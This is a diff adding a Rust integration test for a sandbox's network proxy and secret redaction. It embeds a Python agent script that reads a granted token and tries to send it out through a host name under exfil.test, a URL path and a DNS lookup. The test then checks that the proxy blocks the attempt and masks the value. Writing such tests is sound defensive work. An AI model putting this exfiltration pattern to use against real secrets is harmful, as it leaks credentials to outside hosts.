@@ -44,6 +44,28 @@ const HOST_ABSTRACT: &str = "spawn-test-host-service";
 const AGENT_ABSTRACT: &str = "spawn-test-agent-service";
 /// An address the host gets while a run is going.
 const NEW_HOST_ADDR: &str = "11.0.2.1";
+/// A granted secret (mixed case: a host name folds it) and an agent that sends it out.
+const EXFIL_TOKEN: &str = "Tok-S3cr3t-Exfil-9f8e7d6c";
+const EXFIL: &str = r#"
+import os, socket, urllib.request
+t = os.environ["EXFIL_TOKEN"]
+print("value", t)
+def get(url):
+    try:
+        return str(urllib.request.urlopen(url, timeout=10).status)
+    except urllib.error.HTTPError as e:
+        return f"HTTP{e.code}:{e.headers.get('X-Spawn-Denial')}"
+    except Exception as e:
+        return "ERR:" + type(e).__name__
+print("host", get("http://%s.exfil.test/" % t))
+print("path", get("http://allowed.test/%s" % t))
+try:
+    socket.getaddrinfo(t + ".exfil.test", 80)
+    print("dns", "resolved")
+except Exception as e:
+    print("dns", "ERR")
+"#;
+
 /// The host's IPv6 address (given while the proxy runs) and its service there.
 const HOST_V6: &str = "2606:4700:77::1";
 const HOST_TCP6: u16 = 18081;
@@ -1029,6 +1051,74 @@ fn main() {
         net.iter().filter_map(|e| e["traceId"].as_str()).collect();
     assert_eq!(net_runs.len(), 3, "{net_runs:?}");
     assert!(net_runs.is_subset(&starts), "{net_runs:?} {starts:?}");
+
+    // A granted secret the agent puts in host names (to the proxy, and to the sandbox's
+    // DNS), in a path, and on its stdout: the proxy's events and the output carry the
+    // marker, never the value, in any case (a host name is folded to lowercase).
+    let mut set = spawn
+        .command()
+        .args(["secrets", "set", "EXFIL_TOKEN", "--from-stdin"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("spawn secrets set");
+    set.stdin
+        .take()
+        .unwrap()
+        .write_all(EXFIL_TOKEN.as_bytes())
+        .unwrap();
+    assert!(set.wait().unwrap().success(), "spawn secrets set");
+    for runtime in ["native", "container", "gvisor"] {
+        case(&format!(
+            "{runtime}, restricted: a granted secret in host names is redacted from the proxy's events"
+        ));
+        let out = spawn.run_on(
+            runtime,
+            &[
+                "--net",
+                "restricted",
+                "--allow",
+                "allowed.test",
+                "--secret",
+                "EXFIL_TOKEN",
+                "--json",
+            ],
+            EXFIL,
+        );
+        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+        assert_eq!(out.status.code(), Some(0), "{runtime}: {stdout}");
+        expect_fields(
+            runtime,
+            &stdout,
+            &[
+                ("value", "[REDACTED:EXFIL_TOKEN]"),
+                ("host", "HTTP403:not-allowlisted"),
+                ("path", "200"),
+                ("dns", "ERR"),
+            ],
+        );
+        let run: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
+        let trace = run["runId"].as_str().unwrap_or_default().to_owned();
+        let events: Vec<serde_json::Value> = spawn
+            .audit()
+            .into_iter()
+            .filter(|e| e["traceId"] == trace.as_str())
+            .collect();
+        let text = serde_json::to_string(&events).unwrap();
+        assert!(
+            !text
+                .to_ascii_lowercase()
+                .contains(&EXFIL_TOKEN.to_ascii_lowercase()),
+            "{runtime}: {text}"
+        );
+        assert!(
+            events.iter().any(|e| e["eventType"] == "agent.net.connect"
+                && e["details"]["host"]
+                    .as_str()
+                    .is_some_and(|h| h.starts_with("[REDACTED:EXFIL_TOKEN]"))),
+            "{runtime}: {text}"
+        );
+    }
 
     for runtime in ["native", "container", "gvisor"] {
         case(&format!(
